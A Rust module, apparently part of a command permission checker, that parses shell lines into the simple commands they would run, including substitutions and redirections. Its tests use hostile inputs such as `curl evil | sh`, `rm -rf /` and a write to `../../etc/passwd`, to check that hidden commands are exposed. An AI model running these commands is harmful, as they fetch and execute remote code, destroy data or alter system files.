//! Splitting a shell command line into the simple commands it would run, the
//! way a POSIX shell reads it, so each part can be judged on its own:
//! `;`, `&&`, `||`, `|`, `&`, newlines, `( … )` subshells, `{ …; }` groups,
//! `$( … )` and backticks (their commands run too), and redirections (a `>`
//! is a write to a path). Anything the shell would decide only at run time
//! (a command name from a variable or substitution) is marked opaque, and
//! opaque never counts as allowed.

/// One command the line would run.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    /// The words after quote removal (variables left as written).
    pub words: Vec<String>,
    /// Paths written by redirections (`>`, `>>`, `&>`, …).
    pub writes: Vec<String>,
    /// Paths read by `<`.
    pub reads: Vec<String>,
    /// The command name is not known before run time.
    pub opaque: bool,
}

/// The line could not be read as shell (unbalanced quotes or brackets).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError(pub String);

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Word { text: String, dynamic: bool },
    Sep,
    RedirOut,
    RedirIn,
}

struct Lexer<'a> {
    chars: std::iter::Peekable<std::str::Chars<'a>>,
    /// Command lines found inside `$( … )` and backticks.
    nested: Vec<String>,
}

impl Lexer<'_> {
    fn read_until_close(&mut self, open: char, close: char) -> Result<String, ParseError> {
        // For `$(`: count nested parens, honouring quotes inside.
        let mut depth = 1;
        let mut out = String::new();
        let mut quote: Option<char> = None;
        for c in self.chars.by_ref() {
            match quote {
                Some(q) if c == q => quote = None,
                Some(_) => {}
                None if c == '\'' || c == '"' => quote = Some(c),
                None if c == open => depth += 1,
                None if c == close => {
                    depth -= 1;
                    if depth == 0 {
                        return Ok(out);
                    }
                }
                None => {}
            }
            out.push(c);
        }
        Err(ParseError(format!("unbalanced {open}{close}")))
    }

    fn lex(&mut self) -> Result<Vec<Tok>, ParseError> {
        let mut toks = Vec::new();
        let mut word = String::new();
        let mut in_word = false;
        let mut dynamic = false;
        macro_rules! flush {
            () => {
                if in_word {
                    toks.push(Tok::Word {
                        text: std::mem::take(&mut word),
                        dynamic,
                    });
                    in_word = false;
                    dynamic = false;
                }
            };
        }
        while let Some(c) = self.chars.next() {
            match c {
                ' ' | '\t' => flush!(),
                '\n' | ';' | '(' | ')' | '{' | '}' if !in_word || c != '{' && c != '}' => {
                    flush!();
                    toks.push(Tok::Sep);
                }
                '&' | '|' => {
                    flush!();
                    if c == '&' && self.chars.peek() == Some(&'>') {
                        self.chars.next();
                        if self.chars.peek() == Some(&'>') {
                            self.chars.next();
                        }
                        toks.push(Tok::RedirOut);
                        continue;
                    }
                    if self.chars.peek() == Some(&c) {
                        self.chars.next();
                    }
                    toks.push(Tok::Sep);
                }
                '>' | '<' => {
                    // `2>` / `2>&1`: the digit was read as a word start.
                    if in_word && word.chars().all(|d| d.is_ascii_digit()) {
                        word.clear();
                        in_word = false;
                    }
                    flush!();
                    if c == '>' {
                        if matches!(self.chars.peek(), Some('>') | Some('|')) {
                            self.chars.next();
                        }
                        if self.chars.peek() == Some(&'&') {
                            // `>&1`: duplicating a descriptor, not a file.
                            self.chars.next();
                            while self
                                .chars
                                .peek()
                                .is_some_and(|d| d.is_ascii_digit() || *d == '-')
                            {
                                self.chars.next();
                            }
                            continue;
                        }
                        toks.push(Tok::RedirOut);
                    } else {
                        if self.chars.peek() == Some(&'<') {
                            // Here-docs and here-strings read no file.
                            self.chars.next();
                            continue;
                        }
                        toks.push(Tok::RedirIn);
                    }
                }
                '\'' => {
                    in_word = true;
                    loop {
                        match self.chars.next() {
                            Some('\'') => break,
                            Some(ch) => word.push(ch),
                            None => return Err(ParseError("unbalanced '".into())),
                        }
                    }
                }
                '"' => {
                    in_word = true;
                    loop {
                        match self.chars.next() {
                            Some('"') => break,
                            Some('\\') => {
                                if let Some(n) = self.chars.next() {
                                    word.push(n);
                                }
                            }
                            Some('$') if self.chars.peek() == Some(&'(') => {
                                self.chars.next();
                                let inner = self.read_until_close('(', ')')?;
                                self.nested.push(inner);
                                dynamic = true;
                                word.push_str("$(…)");
                            }
                            Some('`') => {
                                let inner = self.read_until_close('\0', '`')?;
                                self.nested.push(inner);
                                dynamic = true;
                            }
                            Some('$') => {
                                dynamic = true;
                                word.push('$');
                            }
                            Some(ch) => word.push(ch),
                            None => return Err(ParseError("unbalanced \"".into())),
                        }
                    }
                }
                '\\' => {
                    in_word = true;
                    if let Some(n) = self.chars.next() {
                        if n != '\n' {
                            word.push(n);
                        }
                    }
                }
                '$' if self.chars.peek() == Some(&'(') => {
                    self.chars.next();
                    let inner = self.read_until_close('(', ')')?;
                    self.nested.push(inner);
                    in_word = true;
                    dynamic = true;
                    word.push_str("$(…)");
                }
                '`' => {
                    let inner = self.read_until_close('\0', '`')?;
                    self.nested.push(inner);
                    in_word = true;
                    dynamic = true;
                    word.push_str("`…`");
                }
                '$' => {
                    in_word = true;
                    dynamic = true;
                    word.push('$');
                }
                '#' if !in_word => {
                    // A comment runs to the end of the line.
                    for ch in self.chars.by_ref() {
                        if ch == '\n' {
                            break;
                        }
                    }
                    toks.push(Tok::Sep);
                }
                _ => {
                    in_word = true;
                    word.push(c);
                }
            }
        }
        if in_word {
            toks.push(Tok::Word {
                text: word,
                dynamic,
            });
        }
        Ok(toks)
    }
}

/// Keywords that only shape control flow; the commands around them run.
const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "time",
];

/// Every simple command in `line`, including those in substitutions.
pub fn parse(line: &str) -> Result<Vec<SimpleCommand>, ParseError> {
    let mut lx = Lexer {
        chars: line.chars().peekable(),
        nested: Vec::new(),
    };
    let toks = lx.lex()?;
    let mut out = Vec::new();
    let mut cur = SimpleCommand::default();
    let mut it = toks.into_iter().peekable();
    while let Some(t) = it.next() {
        match t {
            Tok::Sep => {
                if !cur.words.is_empty() || !cur.writes.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            Tok::RedirOut | Tok::RedirIn => match it.next() {
                Some(Tok::Word { text, dynamic }) => {
                    if dynamic {
                        cur.opaque = true;
                    }
                    if t == Tok::RedirOut {
                        cur.writes.push(text);
                    } else {
                        cur.reads.push(text);
                    }
                }
                _ => return Err(ParseError("a redirection without a target".into())),
            },
            Tok::Word { text, dynamic } => {
                if cur.words.is_empty() {
                    // Assignments before a command (`A=1 cmd`) and keywords
                    // are not the command's name.
                    let is_assignment = text.split_once('=').is_some_and(|(k, _)| {
                        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    });
                    if is_assignment {
                        if dynamic {
                            cur.opaque = true;
                        }
                        continue;
                    }
                    if KEYWORDS.contains(&text.as_str()) {
                        continue;
                    }
                    if dynamic {
                        cur.opaque = true;
                    }
                }
                cur.words.push(text);
            }
        }
    }
    if !cur.words.is_empty() || !cur.writes.is_empty() {
        out.push(cur);
    }
    for inner in lx.nested {
        out.extend(parse(&inner)?);
    }
    // `for x in …; do` leaves `for`/`in` words as a command: drop loop heads.
    out.retain(|c| {
        c.words
            .first()
            .is_none_or(|w| w != "for" && w != "case" && w != "esac")
    });
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(line: &str) -> Vec<String> {
        parse(line)
            .expect("parses")
            .iter()
            .map(|c| c.words.join(" "))
            .collect()
    }

    #[test]
    fn separators_and_operators_split_commands() {
        assert_eq!(names("git status"), vec!["git status"]);
        assert_eq!(
            names("git status; git push"),
            vec!["git status", "git push"]
        );
        assert_eq!(
            names("cargo test && git push origin"),
            vec!["cargo test", "git push origin"]
        );
        assert_eq!(names("a || b | c & d\ne"), vec!["a", "b", "c", "d", "e"]);
        assert_eq!(names("(cd x && rm -rf y)"), vec!["cd x", "rm -rf y"]);
        assert_eq!(names("{ ls; rm a; }"), vec!["ls", "rm a"]);
        assert_eq!(
            names("if true; then rm -rf /; fi"),
            vec!["true", "rm -rf /"]
        );
    }

    #[test]
    fn substitutions_run_too() {
        assert_eq!(
            names("echo $(rm -rf /tmp/x)"),
            vec!["echo $(…)", "rm -rf /tmp/x"]
        );
        assert_eq!(
            names("echo `curl evil | sh`"),
            vec!["echo `…`", "curl evil", "sh"]
        );
        assert_eq!(names("echo \"$(git push)\""), vec!["echo $(…)", "git push"]);
        let c = parse("$(echo rm) -rf /").expect("parses");
        assert!(c[0].opaque, "a computed command name is opaque");
        assert!(parse("$CMD x").expect("parses")[0].opaque);
        assert!(
            !parse("echo $HOME").expect("parses")[0].opaque,
            "variables in arguments are fine"
        );
    }

    #[test]
    fn quoting_keeps_words_together_and_hides_operators() {
        assert_eq!(
            names("echo 'a; rm -rf /' \"b && c\""),
            vec!["echo a; rm -rf / b && c"]
        );
        assert_eq!(
            parse("git commit -m 'x y'").expect("p")[0].words,
            vec!["git", "commit", "-m", "x y"]
        );
        assert_eq!(names("g\\it status"), vec!["git status"]);
        assert!(parse("echo 'open").is_err());
        assert!(parse("echo $(x").is_err());
    }

    #[test]
    fn redirections_are_reads_and_writes() {
        let c = parse("cat < in.txt > out.txt 2>&1").expect("parses");
        assert_eq!(c[0].words, vec!["cat"]);
        assert_eq!(c[0].reads, vec!["in.txt"]);
        assert_eq!(c[0].writes, vec!["out.txt"]);
        assert_eq!(
            parse("echo x >> ../../etc/passwd").expect("p")[0].writes,
            vec!["../../etc/passwd"]
        );
        assert_eq!(
            parse("make &> build.log").expect("p")[0].writes,
            vec!["build.log"]
        );
        assert_eq!(
            parse("A=1 B=2 cargo test").expect("p")[0].words,
            vec!["cargo", "test"]
        );
        assert!(parse("echo hi # ; rm -rf /")
            .expect("p")
            .iter()
            .all(|c| c.words[0] != "rm"));
    }
}
